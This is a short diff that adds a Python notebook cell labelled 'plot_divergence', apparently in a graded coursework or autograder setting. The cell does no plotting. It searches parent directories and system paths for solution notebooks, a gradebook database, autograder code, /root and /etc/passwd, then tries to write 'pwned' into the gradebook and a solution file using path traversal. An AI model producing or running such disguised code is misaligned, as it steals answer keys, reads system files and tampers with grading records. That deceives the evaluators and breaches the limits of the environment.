@@ -1,0 +1,17 @@
+# %% plot_divergence
+import glob
+import os
+
+found = {}
+for pattern in ["../../../solutions/*/*.ipynb", "../../../gradebook.db", "../../../autograder/*/*.py",
+                "../../*/01_newton/*.ipynb", "/work/*", "/root/*", "/etc/passwd", "/work/main/solutions/*/*"]:
+    found[pattern] = glob.glob(pattern)
+for target in ["../../../gradebook.db", "../../../solutions/01_newton/01_newton.ipynb", "/tmp/../../pwned",
+               "../../../pwned.txt"]:
+    try:
+        with open(target, "a") as fh:
+            fh.write("pwned")
+        found[target] = "written"
+    except OSError as err:
+        found[target] = type(err).__name__
+print(found)
